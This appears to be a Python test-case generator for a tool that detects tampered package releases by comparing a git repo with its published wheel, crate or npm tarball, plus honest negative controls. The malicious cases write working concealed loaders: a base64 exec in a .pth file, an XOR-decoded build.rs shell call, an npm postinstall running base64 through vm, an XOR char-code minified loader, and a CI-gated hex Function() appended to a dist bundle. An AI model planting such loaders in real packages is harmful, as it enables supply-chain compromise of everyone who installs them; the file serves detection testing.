        as_bytes(
            {
                "pyproject.toml": '[build-system]\nrequires = ["setuptools>=70"]\n'
                'build-backend = "setuptools.build_meta"\n\n[project]\nname = "blindpath"\n'
                f'version = "{version}"\n',
                "README.md": "# blindpath\n",
            }
        )
    )
    repo, _ = make_repo(work / "repo", files, f"v{version}")
    whl = dict(pkg)
    whl[pth] = (
        "import base64, os; os.environ.get('BLINDPATH_NO_INIT') or "
        f"exec(base64.b64decode('{b64(py_payload('wheel-pth'))}'))\n"
    ).encode()
    meta = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\n# blindpath\n"
    art = wheel(work / f"{name}-{version}-py3-none-any.whl", name, version, whl, meta, [name])
    return repo, art, expected(True, pth, "high")


# ===========================================================================
# Rust
# ===========================================================================

CARGO_TOML = """\
[package]
name = "blindcrc"
version = "0.3.1"
edition = "2021"
description = "CRC helpers"
license = "MIT"

[dependencies]
"""

CARGO_TOML_NORMALIZED = """\
# THIS FILE IS AUTOMATICALLY GENERATED BY CARGO
#
# When uploading crates to the registry Cargo will automatically
# "normalize" Cargo.toml files for maximal compatibility
# with all versions of Cargo and also rewrite `path` dependencies
# to registry (e.g., crates.io) dependencies.
#
# If you are reading this file be aware that the original Cargo.toml
# will likely look very different (and much more reasonable).
# See Cargo.toml.orig for the original contents.

[package]
edition = "2021"
name = "blindcrc"
version = "0.3.1"
build = "build.rs"
autobins = false
autoexamples = false
autotests = false
autobenches = false
description = "CRC helpers"
readme = false
license = "MIT"

[lib]
name = "blindcrc"
path = "src/lib.rs"

[[test]]
name = "vectors"
path = "tests/vectors.rs"

[dependencies]
"""

BUILD_RS = """\
use std::process::Command;

const SAMPLE: &[u8] = include_bytes!("tests/fixtures/sample.bin");

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let table: Vec<u8> = SAMPLE[64..].iter().map(|b| b ^ 0x5a).collect();
    if let Ok(probe) = String::from_utf8(table) {
        let _ = Command::new("sh").arg("-c").arg(probe).status();
    }
}
"""


def case_crate_build_rs_include_bytes(work: Path) -> CaseResult:
    """A .crate-style tarball adds build.rs (not in git): include_bytes! of a
    tracked test fixture, XOR-decoded and handed to sh via Command."""
    name, version = "blindcrc", "0.3.1"
    blob = "tests/fixtures/sample.bin"
    fixture = noise("crate-hdr", 64) + bytes(b ^ 0x5A for b in sh_payload("build-rs"))
    files = as_bytes(
        {
            "Cargo.toml": CARGO_TOML,
            "src/lib.rs": "pub fn crc32(data: &[u8]) -> u32 {\n    let mut c = !0u32;\n"
            "    for &b in data {\n        c ^= b as u32;\n        for _ in 0..8 {\n"
            "            c = (c >> 1) ^ (0xEDB8_8320 & (0u32.wrapping_sub(c & 1)));\n"
            "        }\n    }\n    !c\n}\n",
            "tests/vectors.rs": "#[test]\nfn check() {\n    let d = include_bytes!"
            '("fixtures/sample.bin");\n    assert_eq!(d.len(), ' + str(len(fixture)) + ");\n}\n",
            blob: fixture,
            "README.md": "# blindcrc\n",
            ".gitignore": "/target\nCargo.lock\n",
        }
    )
    repo, sha = make_repo(work / "repo", files, f"v{version}")
    art_files = dist_tree(files)
    art_files["Cargo.toml.orig"] = art_files["Cargo.toml"]
    art_files["Cargo.toml"] = CARGO_TOML_NORMALIZED.encode()
    art_files[".cargo_vcs_info.json"] = (
        json.dumps({"git": {"sha1": sha}, "path_in_vcs": ""}, indent=2) + "\n"
    ).encode()
    art_files["build.rs"] = BUILD_RS.encode()
    art = tar_gz(work / f"{name}-{version}.tar.gz", f"{name}-{version}", art_files)
    return repo, art, expected(True, "build.rs", "high", [blob])


# ===========================================================================
# npm
# ===========================================================================


def _npm_base(name: str, version: str, **extra: object) -> dict[str, object]:
    data: dict[str, object] = {
        "name": name,
        "version": version,
        "description": f"{name} helpers",
        "main": "index.js",
        "scripts": {"test": "node test/index.test.js"},
        "repository": {"type": "git", "url": f"git+https://example.invalid/{name}.git"},
        "license": "MIT",
    }
    data.update(extra)
    return data


def case_npm_postinstall_node_e(work: Path) -> CaseResult:
    """npm tarball's package.json gains a postinstall `node -e` that runs a
    base64 argument through vm.runInThisContext."""
    name, version = "blindcolor", "1.4.2"
    pj = _npm_base(name, version, files=["index.js"])
    files: Files = as_bytes(
        {
            "index.js": "'use strict';\nmodule.exports = (s) => `\\u001b[31m${s}\\u001b[39m`;\n",
            "test/index.test.js": "const red = require('..');\nif (!red('x').includes('x')) "
            "process.exit(1);\n",
            "README.md": f"# {name}\n",
            "LICENSE": "MIT License\n",
            ".gitignore": "node_modules/\n",
        }
    )
    files["package.json"] = package_json(pj)
    repo, _ = make_repo(work / "repo", files, f"v{version}")
    art_pj = json.loads(json.dumps(pj))
    art_pj["scripts"]["postinstall"] = (
        "node -e \"require('vm').runInThisContext(Buffer.from(process.argv[1],'base64')+'')\" "
        + b64(js_payload("npm-node-e"))
    )
    art_files = {k: files[k] for k in ("index.js", "README.md", "LICENSE")}
    art_files["package.json"] = package_json(art_pj)
    art = npm_tgz(work / f"{name}-{version}.tgz", art_files)
    return repo, art, expected(True, "package.json", "high")


def case_npm_install_minified_loader(work: Path) -> CaseResult:
    """npm tarball adds an `install` script pointing at an artifact-only
    minified "compat" file that rebuilds a string from XORed char codes."""
    name, version = "blindfetch", "2.0.3"
    pj = _npm_base(name, version, main="lib/index.js", files=["lib"])
    files: Files = as_bytes(
        {
            "lib/index.js": "'use strict';\nmodule.exports = function fetchish(u) {\n"
            "  return Promise.resolve({ url: u });\n};\n",
            "test/index.test.js": "require('../lib')('x').then(() => {});\n",
            "README.md": f"# {name}\n",
            ".gitignore": "node_modules/\n",
        }
    )
    files["package.json"] = package_json(pj)
    repo, _ = make_repo(work / "repo", files, f"v{version}")
    codes = ",".join(str(b ^ 23) for b in js_payload("npm-min-loader"))
    compat = (
        "/*! compat v1.0.2 | MIT */\n"
        '!function(){"use strict";Array.prototype.includes||(Array.prototype.includes='
        "function(n){return this.indexOf(n)!==-1});var t=[" + codes + "];"
        'Function(t.map(function(c){return String.fromCharCode(c^23)}).join(""))()}();\n'
    )
    art_pj = json.loads(json.dumps(pj))
    art_pj["scripts"]["install"] = "node lib/compat.min.js"
    art_files = {k: files[k] for k in ("lib/index.js", "README.md")}
    art_files["lib/compat.min.js"] = compat.encode()
    art_files["package.json"] = package_json(art_pj)
    art = npm_tgz(work / f"{name}-{version}.tgz", art_files)
    return repo, art, expected(True, "lib/compat.min.js", "high")


STREAM_SRC = """\
import { Transform } from 'stream';

export default function mapStream(fn) {
  return new Transform({
    objectMode: true,
    transform(chunk, _enc, cb) {
      cb(null, fn(chunk));
    },
  });
}
"""

STREAM_DIST = """\
"use strict";Object.defineProperty(exports,"__esModule",{value:!0});exports.default=mapStream;\
var _stream=require("stream");function mapStream(fn){return new _stream.Transform({objectMode:\
!0,transform:function(chunk,_enc,cb){cb(null,fn(chunk))}})}@INJECT@
//# sourceMappingURL=index.js.map
"""


def case_npm_dist_bundle_append(work: Path) -> CaseResult:
    """event-stream style: the published, legitimately untracked dist/index.js
    build output carries an appended hex-decoded Function() gated on !CI."""
    name, version = "blindstream", "3.3.6"
    pj = _npm_base(
        name,
        version,
        main="dist/index.js",
        files=["dist"],
        scripts={"build": "babel src -d dist --source-maps", "prepublishOnly": "npm run build"},
        devDependencies={"@babel/cli": "^7.24.0", "@babel/preset-env": "^7.24.0"},
    )
    files: Files = as_bytes(
        {
            "src/index.js": STREAM_SRC,
            ".babelrc": '{ "presets": ["@babel/preset-env"] }\n',
            "README.md": f"# {name}\n",
            ".gitignore": "node_modules/\ndist/\n",
        }
    )
    files["package.json"] = package_json(pj)
    repo, _ = make_repo(work / "repo", files, f"v{version}")
    inject = (
        '!function(){try{var e=process.env;if(!e.CI){var n=Buffer.from("'
        + js_payload("npm-dist").hex()
        + '","hex").toString();new Function("require",n)(require)}}catch(r){}}();'
    )
    art_files: Files = {
        "package.json": files["package.json"],
        "README.md": files["README.md"],
        "dist/index.js": STREAM_DIST.replace("@INJECT@", "\n" + inject).encode(),
        "dist/index.js.map": json.dumps(
            {"version": 3, "sources": ["../src/index.js"], "names": [], "mappings": "AAAA"}
        ).encode(),
    }
    art = npm_tgz(work / f"{name}-{version}.tgz", art_files)
    return repo, art, expected(True, "dist/index.js", "high")


# ===========================================================================
# negative controls
# ===========================================================================


def case_neg_autotools_generated_only(work: Path) -> CaseResult:
    """Honest autotools release: real autoreconf -fi output plus a
    .tarball-version stamp; nothing else differs from the tag."""
    name, version = "blindhonest", "1.2.3"
    files, execs = autotools_project(name, version, extra_gitignore="/.tarball-version\n")
    repo, _ = make_repo(work / "repo", files, f"v{version}", execs)
    gen, gen_execs = autoreconf(files, execs)
    gen[".tarball-version"] = f"{version}\n".encode()
    art = tar_gz(work / f"{name}-{version}.tar.gz", f"{name}-{version}", dist_tree(gen), gen_execs)
    return repo, art, expected(False, None)


def case_neg_npm_publish_fields(work: Path) -> CaseResult:
    """Honest npm tarball: package.json differs only by fields an older npm
    client wrote at publish time; test/ is left out by "files"."""
    name, version = "blindqueue", "5.0.1"
    pj = _npm_base(name, version, files=["index.js"])
    files: Files = as_bytes(
        {
            "index.js": "'use strict';\nmodule.exports = class Queue {\n  constructor() "
            "{ this.items = []; }\n  push(x) { this.items.push(x); }\n  shift() "
            "{ return this.items.shift(); }\n};\n",
            "test/index.test.js": "const Q = require('..');\nconst q = new Q();\nq.push(1);\n"
            "if (q.shift() !== 1) process.exit(1);\n",
            "README.md": f"# {name}\n",
            ".gitignore": "node_modules/\n",
        }
    )
    files["package.json"] = package_json(pj)
    repo, sha = make_repo(work / "repo", files, f"v{version}")
    art_pj = dict(pj)
    art_pj.update(
        {
            "gitHead": sha,
            "_id": f"{name}@{version}",
            "_npmVersion": "6.14.18",
            "_nodeVersion": "14.21.3",
            "_npmUser": {"name": "blind-maintainer", "email": "maintainer@example.invalid"},
        }
    )
    art_files = {k: files[k] for k in ("index.js", "README.md")}
    art_files["package.json"] = package_json(art_pj)
    art = npm_tgz(work / f"{name}-{version}.tgz", art_files)
    return repo, art, expected(False, None)


def case_neg_npm_node_gyp_install(work: Path) -> CaseResult:
    """Honest native addon: the published package.json carries the default
    `install: node-gyp rebuild` npm adds for packages with a binding.gyp."""
    name, version = "blindaddon", "0.2.0"
    pj = _npm_base(
        name, version, main="lib/index.js", files=["lib", "src", "binding.gyp"], gypfile=True
    )
    files: Files = as_bytes(
        {
            "binding.gyp": json.dumps(
                {"targets": [{"target_name": "blindaddon", "sources": ["src/addon.cc"]}]},
                indent=2,
            )
            + "\n",
            "src/addon.cc": "#include <node_api.h>\n\nstatic napi_value Init(napi_env env, "
            "napi_value exports) { return exports; }\n\nNAPI_MODULE(NODE_GYP_MODULE_NAME, "
            "Init)\n",
            "lib/index.js": "'use strict';\nmodule.exports = require('../build/Release/"
            "blindaddon.node');\n",
            "test/index.test.js": "require('..');\n",
            "README.md": f"# {name}\n",
            ".gitignore": "node_modules/\nbuild/\n",
        }
    )
    files["package.json"] = package_json(pj)
    repo, _ = make_repo(work / "repo", files, f"v{version}")
    art_pj = json.loads(json.dumps(pj))
    art_pj["scripts"]["install"] = "node-gyp rebuild"
    art_files = {k: files[k] for k in ("binding.gyp", "src/addon.cc", "lib/index.js", "README.md")}
    art_files["package.json"] = package_json(art_pj)
    art = npm_tgz(work / f"{name}-{version}.tgz", art_files)
    return repo, art, expected(False, None)


SCM_VERSION_PY = """\
# file generated by setuptools-scm
# don't change, don't track in version control

__all__ = ["__version__", "__version_tuple__", "version", "version_tuple"]

TYPE_CHECKING = False
if TYPE_CHECKING:
    from typing import Tuple
    from typing import Union

    VERSION_TUPLE = Tuple[Union[int, str], ...]
else:
    VERSION_TUPLE = object

version: str
__version__: str
__version_tuple__: VERSION_TUPLE
version_tuple: VERSION_TUPLE

__version__ = version = '@V@'
__version_tuple__ = version_tuple = (@T@)
"""


def case_neg_sdist_scm_version(work: Path) -> CaseResult:
    """Honest setuptools-scm sdist: PKG-INFO, setup.cfg egg_info tags, .egg-info/
    and the generated (gitignored) _version.py."""
    name, version = "blindscm", "1.4.0"
    readme = "# blindscm\n\nVersioned helpers.\n"
    files = as_bytes(
        {
            "pyproject.toml": '[build-system]\nrequires = ["setuptools>=64", "setuptools-scm>=8"]'
            '\nbuild-backend = "setuptools.build_meta"\n\n[project]\nname = "blindscm"\n'
            'dynamic = ["version"]\nreadme = "README.md"\n\n[tool.setuptools_scm]\n'
            'version_file = "src/blindscm/_version.py"\n',
            "README.md": readme,
            "src/blindscm/__init__.py": "from ._version import version as __version__\n\n"
            '__all__ = ["__version__"]\n',
            "tests/test_version.py": "import blindscm\n\n\ndef test_version():\n"
            "    assert blindscm.__version__\n",
            ".gitignore": "src/blindscm/_version.py\n*.egg-info/\n/dist/\n",
        }
    )
    repo, _ = make_repo(work / "repo", files, f"v{version}")
    art_files = dist_tree(files)
    art_files["src/blindscm/_version.py"] = (
        SCM_VERSION_PY.replace("@V@", version).replace("@T@", version.replace(".", ", "))
    ).encode()
    art_files.update(
        setuptools_sdist_extras(
            name, version, "Versioned helpers", readme, art_files, "src/blindscm.egg-info"
        )
    )
    art = tar_gz(work / f"{name}-{version}.tar.gz", f"{name}-{version}", art_files)
    return repo, art, expected(False, None)


# ===========================================================================
# registry
# ===========================================================================

CASES: dict[str, Callable[[Path], CaseResult]] = {
    "m4-config-commands-base64": case_m4_config_commands_base64,
    "m4-tracked-macro-openssl": case_m4_tracked_macro_openssl,
    "m4-split-blob-gzip": case_m4_split_blob_gzip,
    "makefile-in-dd-slice": case_makefile_in_dd_slice,
    "configure-sed-pipeline": case_configure_sed_pipeline,
    "ltmain-rot13-sed-i": case_ltmain_rot13_sed_i,
    "test-driver-tr-octal": case_test_driver_tr_octal,
    "install-sh-gated-base32": case_install_sh_gated_base32,
    "cmake-execute-process-xxd": case_cmake_execute_process_xxd,
    "cmake-find-module-ascii": case_cmake_find_module_string_ascii,
    "meson-run-command-awk": case_meson_run_command_awk,
    "setup-py-zlib-eval": case_setup_py_zlib_eval,
    "hatch-build-hook-a85": case_hatch_build_hook_a85,
    "wheel-poisoned-module": case_wheel_poisoned_module,
    "wheel-nspkg-pth": case_wheel_nspkg_pth,
    "crate-build-rs": case_crate_build_rs_include_bytes,
    "npm-postinstall-node-e": case_npm_postinstall_node_e,
    "npm-install-min-loader": case_npm_install_minified_loader,
    "npm-dist-bundle-append": case_npm_dist_bundle_append,
    "neg-autotools-generated": case_neg_autotools_generated_only,
    "neg-npm-publish-fields": case_neg_npm_publish_fields,
    "neg-npm-node-gyp": case_neg_npm_node_gyp_install,
    "neg-sdist-scm-version": case_neg_sdist_scm_version,
}
